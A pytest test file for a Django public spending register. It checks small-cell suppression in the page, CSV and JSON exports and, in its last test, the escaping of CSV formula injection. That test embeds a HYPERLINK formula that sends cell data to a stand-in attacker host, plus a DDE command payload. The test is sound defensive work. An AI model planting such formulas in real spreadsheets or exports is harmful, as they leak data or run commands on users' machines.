# SPDX-License-Identifier: EUPL-1.2
"""The public spending register: page, CSV and JSON, with cells under 10 persons hidden
(and the next smallest of the same provider, so nothing is found by subtraction)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.test import Client
from django.urls import reverse

from llo.enrolment import exports, selectors, services
from llo.register.models import Offering
from tests.enrolment.conftest import ACTOR, DURING, World, make_offer, person

pytestmark = pytest.mark.django_db


def _grant(world: World, offering: Offering, n: int, tag: str) -> None:
    for i in range(n):
        p = person()
        shown = services.preview(
            actor=ACTOR, person=p, offering=offering, window=world.window, on=DURING.date()
        )
        services.submit(
            actor=ACTOR,
            window=world.window,
            shown=shown,
            amount_cents=shown.amount_cents,
            idempotency_key=f"{tag}{i}",
            at=DURING,
        )


@pytest.fixture
def spent(world: World) -> World:
    """12, 11 and 3 grants for three offers of one provider."""
    world.window.budget_cents = 3_000_000
    world.window.save()
    second = make_offer(world.opleider)
    third = make_offer(world.opleider)
    _grant(world, world.offering, 12, "a")
    _grant(world, second[1], 11, "b")
    _grant(world, third[1], 3, "c")
    services.allocate_window(world.window, at=DURING + dt.timedelta(minutes=5))
    return world


def test_page_is_public_and_suppresses_small_cells(spent: World) -> None:
    page = Client(HTTP_ACCEPT_LANGUAGE="nl").get(reverse("enrolment:spending"), {"jaar": 2023})
    assert page.status_code == 200
    html = page.content.decode()
    assert spent.offer.title in html
    assert ">12<" in html
    assert "€ 10.800,00" in html
    assert html.count("data-suppressed") == 2  # the 3 and, complementary, the 11
    assert ">11<" not in html
    assert ">3<" not in html
    one = Client().get(
        reverse("enrolment:spending-provider", args=[spent.provider.pk]), {"jaar": 2023}
    )
    assert one.status_code == 200
    assert spent.provider.name in one.content.decode()


def test_csv_and_json_downloads(spent: World) -> None:
    response = Client().get(reverse("enrolment:spending-csv"), {"jaar": "2023"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 3
    shown = [r for r in rows if r["suppressed"] == "false"]
    assert [(r["grants"], r["amountCents"]) for r in shown] == [("12", "1080000")]
    assert all(r["grants"] == "" and r["amountCents"] == "" for r in rows if r not in shown)
    data = json.loads(Client().get(reverse("enrolment:spending-json"), {"jaar": 2023}).content)
    assert data["year"] == 2023
    assert sorted(r["grants"] or 0 for r in data["rows"]) == [0, 0, 12]
    assert data == exports.spending_json(2023, selectors.spending(2023))
    assert data["threshold"] == 10


def test_empty_year_and_bad_year(db: None) -> None:
    page = Client().get(reverse("enrolment:spending"), {"jaar": "abc"})
    assert page.status_code == 200
    text = Client().get(reverse("enrolment:spending-csv"), {"jaar": 1990}).content.decode()
    assert text.startswith("year,provider,providerId,offer,offerId,grants,amountCents,suppressed")


HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


def test_open_data_rechecks_a_title_that_starts_like_a_formula(spent: World) -> None:
    """Issue 14, finding 4: an offer titled like a formula (admitted before the admission check
    refused such titles) appeared unescaped in /uitgaven.csv and the API's CSV. The title is
    checked again at export: the open data (page CSV, API CSV, JSON) show a stand-in until
    staff have looked at it (``llo register_formula_titles --flag``), and the money stays in
    the row; any other cell that starts like a formula is written with a quote mark."""
    from llo.core import csvio

    spent.offer.title = HOSTILE_TITLE
    spent.offer.save(update_fields=["title"])
    spent.provider.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    spent.provider.save(update_fields=["name"])
    downloads = [
        Client().get(reverse("enrolment:spending-csv"), {"jaar": "2023"}),
        Client().get("/api/v1/spending.csv", {"year": "2023"}),
    ]
    for response in downloads:
        assert response.status_code == 200
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        text = response.content.decode()
        assert "HYPERLINK" not in text
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        mine = [r for r in rows if r["offerId"] == str(spent.offer.pk)]
        assert len(mine) == 1
        assert str(spent.offer.pk) in mine[0]["offer"]
        assert not csvio.starts_like_formula(mine[0]["offer"])
        assert mine[0]["provider"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert mine[0]["amountCents"] == "1080000"
    raw = Client().get(reverse("enrolment:spending-json"), {"jaar": "2023"})
    assert "HYPERLINK" not in raw.content.decode()
    assert any(str(spent.offer.pk) in r["offer"] for r in raw.json()["rows"])
